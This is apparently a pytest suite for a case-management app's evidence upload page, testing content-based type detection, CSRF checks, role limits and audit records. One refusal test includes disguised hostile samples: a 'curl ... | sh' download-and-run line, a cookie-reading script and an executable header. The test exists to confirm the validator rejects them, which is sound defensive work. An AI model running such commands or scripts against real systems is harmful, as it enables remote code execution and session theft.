"""Uploading files to a case through the case page: every accepted type, the type read
from the content whatever the name or the browser says, and refusals in words."""

from __future__ import annotations

import hashlib

import pytest
from sqlalchemy import select
from werkzeug.http import parse_options_header

from casework.cases.models import CaseEvent
from casework.evidence.models import EvidenceFile
from tests.evidence import samples
from tests.evidence.conftest import upload


def _files(db):
    return list(db.session.scalars(select(EvidenceFile).order_by(EvidenceFile.id)))


@pytest.mark.parametrize("kind", sorted(samples.ALLOWED_SAMPLES))
def test_an_officer_attaches_each_accepted_type(login_as, make_case, db, kind):
    make, name, content_type = samples.ALLOWED_SAMPLES[kind]
    data = make()
    client, officer = login_as("officer")
    case = make_case(status="verifying", assignee_id=None)

    response = upload(client, case, data, name, caption="Seen at the barrier",
                      claimed_type="application/octet-stream")  # fmt: skip

    assert response.status_code == 303, response.get_data(as_text=True)
    (file,) = _files(db)
    assert (file.content_type, file.size, file.filename) == (content_type, len(data), name)
    assert file.sha256 == hashlib.sha256(data).hexdigest()
    assert (file.caption, file.source) == ("Seen at the barrier", "field_visit")
    assert file.added_by_id == officer.id
    assert (file.preview_key is not None) == (kind in {"jpeg", "png", "webp", "gif"})
    page = client.get(f"/cases/{case.reference}").get_data(as_text=True)
    assert name in page and file.sha256[:12] in page and "Seen at the barrier" in page


def test_the_type_comes_from_the_content_not_the_name_or_the_browser(login_as, make_case, db):
    client, _ = login_as("supervisor")
    case = make_case()
    upload(client, case, samples.pdf(), "photo.jpg", claimed_type="image/jpeg")
    (file,) = _files(db)
    assert file.content_type == "application/pdf"
    download = client.get(f"/cases/{case.reference}/files/{file.id}")
    assert download.mimetype == "application/pdf"
    disposition = parse_options_header(download.headers["Content-Disposition"])
    assert disposition == ("attachment", {"filename": "photo.pdf"})


@pytest.mark.parametrize(
    ("data", "name", "claimed"),
    [
        (b"#!/bin/sh\ncurl http://example.org/x | sh\n", "photo.jpg", "image/jpeg"),
        (b"<html><script>alert(document.cookie)</script></html>", "report.pdf", "application/pdf"),
        (b"MZ\x90\x00\x03" + b"\0" * 200, "receipt.png", "image/png"),
        (samples.mp4_video(), "voice.m4a", "audio/mp4"),
    ],
    ids=["script-as-jpg", "html-as-pdf", "exe-as-png", "video-as-m4a"],
)
def test_content_of_a_refused_type_behind_a_good_name_is_refused(
    login_as, make_case, db, data, name, claimed
):
    client, _ = login_as("officer")
    case = make_case(status="verifying")

    response = upload(client, case, data, name, claimed_type=claimed)

    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "is not a type a case accepts, whatever its name says" in page
    assert "PDF, audio (MP3, M4A" in page  # says what is accepted
    assert _files(db) == []
    assert not db.session.scalar(select(CaseEvent).where(CaseEvent.kind == "file_added"))


def test_an_empty_file_is_refused(login_as, make_case, db):
    client, _ = login_as("officer")
    case = make_case(status="verifying")
    response = upload(client, case, b"", "receipt.jpg")
    assert response.status_code == 422
    assert "The file is empty" in response.get_data(as_text=True)
    assert _files(db) == []


def test_a_form_without_a_file_says_to_choose_one(login_as, make_case, db):
    from tests.conftest import csrf_token

    client, _ = login_as("officer")
    case = make_case(status="verifying")
    token = csrf_token(client, f"/cases/{case.reference}")
    response = client.post(f"/cases/{case.reference}/files",
                           data={"csrf_token": token, "source": "field_visit"})  # fmt: skip
    assert response.status_code == 422
    assert "Choose a file to attach." in response.get_data(as_text=True)


def test_an_upload_without_the_csrf_token_is_refused(login_as, make_case, db):
    import io

    client, _ = login_as("officer")
    case = make_case(status="verifying")
    response = client.post(
        f"/cases/{case.reference}/files",
        data={"source": "field_visit", "file": (io.BytesIO(samples.pdf()), "a.pdf")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert _files(db) == []


@pytest.mark.parametrize("role", ["viewer", "admin", "committee"])
def test_roles_that_do_not_work_cases_with_files_cannot_upload(
    login_as, make_case, make_committee, db, role
):
    committee = make_committee()
    client, _ = login_as(role, committee=committee if role == "committee" else None)
    case = make_case(status="verifying", committee_id=committee.id, is_published=True,
                     public_summary="A summary.")  # fmt: skip
    page = client.get(f"/cases/{case.reference}").get_data(as_text=True)
    assert 'enctype="multipart/form-data"' not in page
    assert upload(client, case, samples.pdf(), "a.pdf").status_code in (400, 403)
    assert _files(db) == []


def test_the_file_on_the_case_record_names_its_sha256_and_details(login_as, make_case, db):
    client, officer = login_as("officer")
    case = make_case(status="verifying")
    data = samples.photo()
    upload(client, case, data, "roadblock.jpg", caption="Reçu de la barrière", source="reporter")
    (file,) = _files(db)
    event = db.session.scalar(select(CaseEvent).where(CaseEvent.kind == "file_added"))
    assert event.actor_id == officer.id
    assert event.data == {
        "file_id": file.id,
        "sha256": hashlib.sha256(data).hexdigest(),
        "filename": "roadblock.jpg",
        "size": len(data),
        "content_type": "image/jpeg",
        "source": "reporter",
        "caption": "Reçu de la barrière",
    }


def test_the_timeline_says_who_added_and_who_downloaded_a_file(login_as, make_case, db):
    client, officer = login_as("officer")
    case = make_case(status="verifying")
    upload(client, case, samples.pdf(), "attestation.pdf", source="third_party")
    file = db.session.scalar(select(EvidenceFile))
    client.get(f"/cases/{case.reference}/files/{file.id}")
    page = client.get(f"/cases/{case.reference}").get_data(as_text=True)
    sha = file.sha256[:12]
    assert f"{officer.name} added the file attestation.pdf (A third party; SHA-256 {sha}…)." in page
    assert f"{officer.name} downloaded the file attestation.pdf." in page
